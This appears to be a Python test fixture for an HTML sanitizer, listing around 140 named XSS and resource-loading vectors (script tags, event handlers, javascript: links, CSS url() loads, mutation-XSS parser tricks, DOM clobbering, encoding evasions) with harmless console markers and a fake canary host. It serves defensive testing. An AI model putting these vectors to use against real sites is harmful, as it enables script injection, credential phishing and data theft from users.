"""Hostile HTML: everything that should run, load or lead somewhere, and must not.

RUN stands for code that says on the console that it ran, CANARY for an address that nobody
may ask for; both carry the name of the vector.
"""
# ruff: noqa: E501 - a vector is easier to read on one line

from __future__ import annotations

_RUN, _CANARY = "RUN", "CANARY"


def canary(name: str) -> str:
    """Give the address that a vector would ask for. No such host exists."""
    return f"http://canary.test/{name}"


def mark(name: str) -> str:
    """Give what a vector's code says on the console."""
    return f"ran:{name}"


def _code(name: str) -> str:
    # Without quotes, spaces and angle brackets: it stands in attributes of all kinds.
    return f"console.log(/{mark(name)}/.source)"


_VECTORS: dict[str, str] = {
    # scripts
    "script": "<script>RUN</script>",
    "script-src": "<script src='CANARY'></script>",
    "script-case": "<ScRiPt>RUN</sCrIpT>",
    "script-space": "<script\n\t>RUN</script\n >",
    "script-slash": "<script/x>RUN</script/x>",
    "script-unclosed": "<script>RUN",
    "script-nested": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-comment": "<!--><script>RUN</script>-->",
    "script-comment-dash": "<!--- --!><script>RUN</script>",
    "script-cdata": "<![CDATA[<script>RUN</script>]]>",
    "script-processing": "<?xml version='1.0'?><script>RUN</script>",
    "script-in-title": "<title><script>RUN</script></title><script>RUN</script>",
    "script-module": "<script type=module>RUN</script>",
    "script-svg-entities": "<svg><script>&#99;onsole.log(/ran:script-svg-entities/.source)</script>",
    "script-after-textarea": "<textarea></textarea><script>RUN</script>",
    "script-entities": "&lt;script&gt;RUN&lt;/script&gt;<b>&#60;script&#62;</b><script>RUN</script>",
    # event handlers
    "img-onerror": "<img src=x onerror=RUN>",
    "img-onerror-quoted": "<img src='x' onerror=\"RUN\">",
    "img-onerror-no-space": "<img/src='x'/onerror=RUN>",
    "img-onerror-newlines": "<img\nsrc=x\nonerror\n=\nRUN>",
    "img-onerror-entities": "<img src=x onerror=&#99;onsole.log(/ran:img-onerror-entities/.source)>",
    "img-onload-data": (
        "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='"
        " onload=RUN>"
    ),
    "img-breaking-alt": "<img alt='\"><img src=x onerror=RUN>' title=\"'><img src=x onerror=RUN>\">",
    "img-backticks": "<img src=`x` onerror=RUN alt=`y`>",
    "image-element": "<image src=x onerror=RUN>",
    "body-onload": "<body onload=RUN><p>hello</p>",
    "svg-onload": "<svg onload=RUN></svg>",
    "svg-onload-slash": "<svg/onload=RUN//",
    "svg-animate": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set onbegin=RUN attributeName=x to=1></svg>",
    "details-toggle": "<details open ontoggle=RUN><summary>x</summary>y</details>",
    "input-autofocus": "<input autofocus onfocus=RUN>",
    "select-autofocus": "<select autofocus onfocus=RUN><option>x</select>",
    "textarea-autofocus": "<textarea autofocus onfocus=RUN>x</textarea>",
    "tabindex-autofocus": "<p tabindex=1 autofocus onfocus=RUN>x</p>",
    "contenteditable-focus": "<b contenteditable autofocus onfocus=RUN>x</b>",
    "video-onerror": "<video><source onerror=RUN></video>",
    "audio-onerror": "<audio src=x onerror=RUN></audio>",
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "animation-start": (
        "<style>@keyframes k{from{opacity:0}}</style>"
        "<p style='animation:k 1s' onanimationstart=RUN>x</p>"
    ),
    "onmouseover": "<a onmouseover=RUN onpointerenter=RUN style='font-size:200px'>x</a>",
    "handler-unicode": "<p ONCLICK=RUN onClick=RUN>x</p><img src=x OnErRoR=RUN>",
    "handler-null": "<img src=x on\0error=RUN onerror\0=RUN>",
    "popover-toggle": "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=RUN>z</p>",
    "content-visibility": (
        "<p oncontentvisibilityautostatechange=RUN style='content-visibility:auto'>x</p>"
    ),
    # javascript: and data: addresses
    "href-javascript": "<a href='javascript:RUN'>x</a>",
    "href-case": "<a href='JaVaScRiPt:RUN'>x</a>",
    "href-tab": "<a href='java\tscript:RUN'>x</a>",
    "href-newline": "<a href='java\nscript:RUN'>x</a><a href='\x01javascript:RUN'>y</a>",
    "href-entities": "<a href='&#x6A;avascript&colon;RUN'>x</a>",
    "href-entities-long": "<a href='&#0000106avascript:RUN'>x</a>",
    "href-entity-tab": "<a href='java&Tab;script&NewLine;:RUN'>x</a>",
    "href-space": "<a href=' &#14;  javascript:RUN'>x</a>",
    "href-data": "<a href='data:text/html,<script>RUN</script>'>x</a>",
    "href-data-base64": (
        "<a href='data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygvcmFuLy5zb3VyY2UpPC9zY3JpcHQ+'>x</a>"
    ),
    "href-vbscript": "<a href='vbscript:RUN'>x</a>",
    "href-blob": "<a href='blob:CANARY'>x</a><a href='filesystem:CANARY'>y</a>",
    "href-percent": "<a href='javascript:%63onsole.log(/ran:href-percent/.source)'>x</a>",
    "href-protocol-relative": "<a href='//canary.test/x'>x</a><a href='\\\\canary.test/x'>y</a>",
    "href-view-source": "<a href='view-source:javascript:RUN'>x</a>",
    "xlink-href": "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'></use></svg>",
    "img-src-javascript": "<img src='javascript:RUN'><input type=image src='javascript:RUN'>",
    "img-src-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'>\">",
    "img-src-http": "<img src='CANARY'>",
    "img-srcset": "<img src=x srcset='CANARY 1x' sizes=1px><picture><source srcset='CANARY'></picture>",
    "img-lowsrc": "<img lowsrc='CANARY' dynsrc='CANARY' longdesc='CANARY'>",
    "background-attribute": "<table background='CANARY'><td background='CANARY'>x</table>",
    "cite-and-ping": "<a href='https://northwind.example/' ping='CANARY'>x</a><q cite='CANARY'>y</q>",
    # other documents, and where this one leads
    "iframe": "<iframe src='javascript:RUN'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "iframe-src": "<iframe src='CANARY' onload=RUN></iframe>",
    "frameset": "<frameset onload=RUN><frame src='CANARY'></frameset>",
    "object-data": "<object data='javascript:RUN'></object><object data='CANARY'></object>",
    "object-html": "<object data='data:text/html,<script>RUN</script>' type=text/html></object>",
    "embed": "<embed src='javascript:RUN'><embed src='CANARY'>",
    "applet": "<applet code=x codebase='CANARY'></applet>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=CANARY'>",
    "meta-refresh-data": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>"
    ),
    "meta-csp": "<meta http-equiv=Content-Security-Policy content='script-src *'><script>RUN</script>",
    "base": "<base href='CANARY/'><a href='x'>x</a><img src='y'>",
    "link-stylesheet": "<link rel=stylesheet href='CANARY'>",
    "link-prefetch": (
        "<link rel=prefetch href='CANARY'><link rel=preload as=image href='CANARY'>"
        "<link rel=dns-prefetch href='//canary.test'><link rel=preconnect href='CANARY'>"
        "<link rel=modulepreload href='CANARY'><link rel=icon href='CANARY'>"
    ),
    "link-target": "<a href='https://northwind.example/' target=_top rel=opener>x</a>",
    "form-action": "<form action='javascript:RUN' id=f><input type=submit autofocus></form>",
    "button-formaction": "<form><button formaction='javascript:RUN'>x</button></form>",
    "form-elsewhere": "<form action='CANARY'><input name=password><button>Sign in</button></form>",
    "isindex": "<isindex action='javascript:RUN' type=image src=x>",
    "media-sources": "<video poster='CANARY' src='CANARY'><track src='CANARY'></video>",
    "portal": "<portal src='CANARY'></portal><fencedframe src='CANARY'></fencedframe>",
    "manifest": "<html manifest='CANARY'><head profile='CANARY'></head></html>",
    # styles
    "style-import": "<style>@import 'CANARY';</style><style>@import url(CANARY);</style>",
    "style-url": "<p style='background:url(CANARY)'>x</p>",
    "style-url-in-kept": "<ul style='list-style:url(CANARY)'><li>x</ul>",
    "style-escape": "<p style='background-color:u\\72l(CANARY);b\\61ckground:url(CANARY)'>x</p>",
    "style-comment": "<p style='color:red;background/**/:url(CANARY);color:/*;*/url(CANARY)'>x</p>",
    "style-expression": "<p style='width:expression(RUN);color:exp/**/ression(RUN)'>x</p>",
    "style-behavior": "<p style='behavior:url(CANARY);-moz-binding:url(CANARY)'>x</p>",
    "style-image-set": "<p style='content:image-set(\"CANARY\" 1x);cursor:url(CANARY),auto'>x</p>",
    "style-entities": "<p style='background&#58;url&#40;CANARY&#41;'>x</p>",
    "style-break-out": "<p style='font-family:\"</p><script>RUN</script>'>x</p>",
    "style-quotes": "<p style=\"font-family:'a';background:url('CANARY');x:'\">x</p>",
    "style-cover": "<a href='https://northwind.example/' style='position:fixed;inset:0'>x</a>",
    "style-var": "<p style='--x:url(CANARY);background:var(--x);color:env(x,url(CANARY))'>x</p>",
    "style-font-face": "<style>@font-face{font-family:x;src:url(CANARY)}</style><p style='font-family:x'>x",
    "style-unclosed": "<style>*{background:url(CANARY)}",
    "style-attribute-selector": "<style>input[value^=a]{background:url(CANARY)}</style><input value=a>",
    # what is read in one way and written in another
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "mutation-style": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "mutation-math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">'
    ),
    "mutation-math-annotation": (
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=RUN></style></math>"
    ),
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "mutation-svg-title": "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "mutation-foreign-object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "mutation-desc": "<svg><desc><noembed></desc></svg><img src=x onerror=RUN></noembed>",
    "mutation-xmp": '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    "mutation-noembed": '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>',
    "mutation-iframe-text": '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
    "mutation-textarea": '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
    "mutation-title": '<title><p title="</title><img src=x onerror=RUN>"></title>',
    "mutation-plaintext": "<p>x<plaintext></plaintext><script>RUN</script><img src=x onerror=RUN>",
    "mutation-select": "<select><style></select><img src=x onerror=RUN></style></select>",
    "mutation-table": "<table><td><img src=x onerror=RUN><table><script>RUN</script></table></td></table>",
    "mutation-template": "<template><img src=x onerror=RUN><script>RUN</script></template>",
    "shadow-root": "<div><template shadowrootmode=open><script>RUN</script><img src=x onerror=RUN></template></div>",
    "mutation-comment": "<!--><img src=x onerror=RUN>--><!-- --!><img src=x onerror=RUN>-->",
    "mutation-listing": "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "mutation-attribute": '<p title=\'"><img src=x onerror=RUN>\'>x</p><p title="`onmouseover=RUN">y</p>',
    "mutation-entities": "<p>&lt;img src=x onerror=RUN&gt;</p><p>&amp;lt;img src=x onerror=RUN&amp;gt;</p>",
    "namespaces": "<math href='javascript:RUN'>x</math><svg><a><animate attributeName=href values='javascript:RUN'/>",
    "custom-elements": "<x-y onclick=RUN is=x-z><slot onslotchange=RUN></slot></x-y>",
    # names, bytes and size
    "clobbering": (
        "<img name=getElementById><form name=body><input name=parentNode><input name=attributes></form>"
        "<a id=location href='javascript:RUN'></a><img id=currentScript name=document>"
    ),
    "null-bytes": "<scr\0ipt>RUN</scr\0ipt><img src=x o\0nerror=RUN><\0script>RUN</script>",
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "broken-encoding": "<img src='x\ud800' onerror='RUN'>\udfff<p title='\ud83d'>x</p>",
    "odd-spaces": "<img\x0csrc=x\x0conerror=RUN><img\x0bsrc=x\x0bonerror=RUN><svg\xa0onload=RUN>",
    "overlong-brackets": "\u2039script\u203aRUN\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "byte-order": "\ufeff<\u200bscript>RUN</script><script\u200b>RUN</script>",
    "deep": "<b><i>" * 400 + "<img src=x onerror=RUN>",
    "deep-tables": "<table><tr><td>" * 150 + "<svg onload=RUN>",
    "many-attributes": "<img " + " ".join(f"x{n}=1" for n in range(2000)) + " src=x onerror=RUN>",
    "long-attribute": "<a title='" + "x" * 50_000 + "' href='javascript:RUN'>x</a>",
}

HOSTILE: dict[str, str] = {
    name: html.replace(_RUN, _code(name)).replace(_CANARY, canary(name))
    for name, html in _VECTORS.items()
}
"""The vectors by name."""
